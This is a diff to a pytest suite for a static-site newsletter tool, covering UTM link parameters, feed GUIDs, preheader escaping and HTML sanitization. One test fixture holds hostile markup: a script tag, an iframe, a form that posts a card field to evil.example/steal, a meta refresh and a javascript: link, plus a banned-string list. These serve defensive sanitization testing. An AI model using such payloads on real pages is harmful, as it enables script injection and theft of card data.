@@ -12,9 +12,12 @@ import feedparser
 import pytest
 from bs4 import BeautifulSoup
 from conftest import FIXTURES, ROOT, article
-from pelican.log import LimitFilter
 
+from nextsale.feeds import stable_id
 from nextsale.newsletter import check, draft
+from nextsale.newsletter.issues import parse_issue_text
+from nextsale.newsletter.render import issue_utm
+from nextsale.urls import utm_setting, with_utm
 
 SITE = "https://thenextsale.example"
 UNSUB_URL = "https://lists.example.net/unsubscribe/next-sale"
@@ -33,14 +36,6 @@ SETTINGS = {
 GUIDE_PAGE = (
     "Title: Repeat business: the complete guide\nSlug: repeat-business-guide\n\nThe guide.\n"
 )
-
-
-@pytest.fixture(autouse=True)
-def fresh_log_dedup():
-    """Pelican drops repeats of a message process-wide; each build here starts clean."""
-    for name in ("_raised_messages", "_ignore"):
-        getattr(LimitFilter, name).clear()
-    LimitFilter._group_count.clear()
 
 
 def issue(subject: str | None, date: str = "2025-03-03 07:00", articles: str = "since-previous",
@@ -361,7 +356,7 @@ def test_utm_parameters_only_on_site_links(build_site):
             ),
             "newsletter/001-utm.md": issue("UTM"),
         },
-        NEWSLETTER_UTM={"utm_source": "newsletter", "utm_medium": "email"},
+        NEWSLETTER_UTM={"source": "newsletter", "medium": "email"},
     )
     soup = site.soup("newsletter/001-utm/email.html")
     post_links = [a["href"] for a in soup.find_all("a", href=True) if "/2025/a/" in a["href"]]
@@ -370,6 +365,112 @@ def test_utm_parameters_only_on_site_links(build_site):
     )
     assert soup.find("a", href="https://other.example/x")
     assert soup.find("a", href=UNSUB_URL)
+
+
+def test_old_utm_shape_still_works_with_a_deprecation_warning(build_site):
+    old = {"utm_source": "newsletter", "utm_medium": "email"}
+    with pytest.warns(DeprecationWarning, match="NEWSLETTER_UTM"):
+        utm = utm_setting(old, "NEWSLETTER_UTM", filled=("campaign",))
+    assert utm == {"source": "newsletter", "medium": "email"}
+    parsed = parse_issue_text(issue("UTM"), "newsletter/001-utm.md", "UTC")
+    assert with_utm(f"{SITE}/2025/a/", issue_utm(utm, parsed)) == (
+        f"{SITE}/2025/a/?utm_source=newsletter&utm_medium=email&utm_campaign=001-utm"
+    )
+    # A link's own parameters win over the setting.
+    assert with_utm(f"{SITE}/?utm_source=partner", utm) == (
+        f"{SITE}/?utm_source=partner&utm_medium=email"
+    )
+
+    files = {
+        "articles/a.md": article("A", slug="a", date="2025-01-06 08:00"),
+        "newsletter/001-utm.md": issue("UTM"),
+    }
+    new_site = build(build_site, files, NEWSLETTER_UTM={"source": "newsletter", "medium": "email"})
+    with pytest.warns(DeprecationWarning, match="NEWSLETTER_UTM"):
+        old_site = build(build_site, files, NEWSLETTER_UTM=old)
+    for name in ("001-utm/email.html", "001-utm/email.txt", "001-utm/issue.eml", "feed.rss.xml"):
+        rel = f"newsletter/{name}"
+        assert old_site.path(rel).read_bytes() == new_site.path(rel).read_bytes(), rel
+    warned = [m for m in old_site.messages() if "NEWSLETTER_UTM" in m and "deprecated" in m]
+    assert warned and "{'source': 'newsletter', 'medium': 'email'}" in warned[0]
+
+
+HOSTILE_INTRO = """Hello, and welcome back.
+
+<script>alert("intro")</script>
+<iframe src="https://evil.example/frame"></iframe>
+<form action="https://evil.example/steal"><input name="card"><button>Send</button></form>
+<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
+
+<p onclick="steal()">Stay <a href="javascript:alert(1)">safe</a> out there.</p>
+"""
+
+
+def test_intro_markup_never_reaches_the_page_the_email_or_the_feed(build_site):
+    site = build(
+        build_site,
+        {
+            "articles/a.md": article("A", slug="a", date="2025-01-06 08:00"),
+            "newsletter/001-hostile.md": issue("Hostile", body=HOSTILE_INTRO),
+        },
+    )
+    outputs = [
+        "newsletter/001-hostile/index.html",
+        "newsletter/001-hostile/email.html",
+        "newsletter/001-hostile/email.txt",
+        "newsletter/001-hostile/issue.eml",
+        "newsletter/feed.rss.xml",
+    ]
+    for rel in outputs:
+        text = site.text(rel)
+        assert "Hello, and welcome back." in text, rel
+        for banned in ("evil.example", "alert(", "javascript:", "onclick", "refresh"):
+            assert banned not in text, (rel, banned)
+    page = site.soup("newsletter/001-hostile/index.html")
+    assert not page.find_all(["script", "iframe", "form", "input", "button"])
+    assert "Stay safe out there." in " ".join(page.find(class_="content").text.split())
+    feed = feedparser.parse(site.path("newsletter/feed.rss.xml").read_bytes())
+    content = BeautifulSoup(feed.entries[0].content[0].value, "html.parser")
+    assert not content.find_all(["script", "iframe", "form", "input", "button", "meta"])
+
+
+def test_preheader_is_plain_text(build_site):
+    preheader = 'Fish & <b>chips</b>, "fresh"'
+    site = build(build_site, {"newsletter/001-x.md": issue("X", preheader=preheader)})
+    email_html = site.soup("newsletter/001-x/email.html")
+    shown = email_html.find("div", class_="preheader")
+    assert shown.find("b") is None and shown.text.startswith(preheader)
+    page = site.soup("newsletter/001-x/index.html")
+    assert page.find("meta", attrs={"name": "description"})["content"] == preheader
+    feed = feedparser.parse(site.path("newsletter/feed.rss.xml").read_bytes())
+    # A feed's description is HTML: the preheader arrives escaped, read back as text.
+    summary = feed.entries[0].summary
+    assert "<b>" not in summary and BeautifulSoup(summary, "html.parser").text == preheader
+
+
+def feed_guids(site) -> list[tuple[str, str]]:
+    root = BeautifulSoup(site.path("newsletter/feed.rss.xml").read_bytes(), "xml")
+    return [(g.text, g["isPermaLink"]) for g in root.find_all("guid")]
+
+
+def test_feed_guids_follow_the_site_feeds_policy(build_site):
+    first = build(build_site, {"newsletter/001-one.md": issue("One", body="First words.")})
+    edited = build(
+        build_site,
+        {
+            "newsletter/001-one.md": issue(
+                "One, retitled", body="Rewritten from scratch.", preheader="New preview."
+            )
+        },
+    )
+    date = parse_issue_text(issue("One"), "newsletter/001-one.md", "Europe/London").date
+    expected = stable_id("newsletter/001-one.md", date, "thenextsale.example")
+    assert expected == "tag:thenextsale.example,2025-03-03:/newsletter/001-one"
+    assert feed_guids(first) == feed_guids(edited) == [(expected, "false")]
+    assert "Rewritten from scratch." in edited.text("newsletter/feed.rss.xml")
+    # As in articles, an explicit Id: or Guid: wins.
+    own = build(build_site, {"newsletter/001-one.md": issue("One", guid="urn:uuid:1234")})
+    assert feed_guids(own) == [("urn:uuid:1234", "false")]
 
 
 def test_archive_pages_and_feed(build_site):
@@ -392,7 +493,8 @@ def test_archive_pages_and_feed(build_site):
     assert not feed.bozo
     (entry,) = feed.entries
     assert entry.link == f"{SITE}/newsletter/001-one/"
-    assert entry.id == entry.link
+    assert entry.id == "tag:thenextsale.example,2025-03-03:/newsletter/001-one"
+    assert feed.feed.link == f"{SITE}/newsletter/"
     assert feed.feed.updated_parsed == entry.published_parsed  # never the build time
     assert "<script" not in entry.content[0].value
 
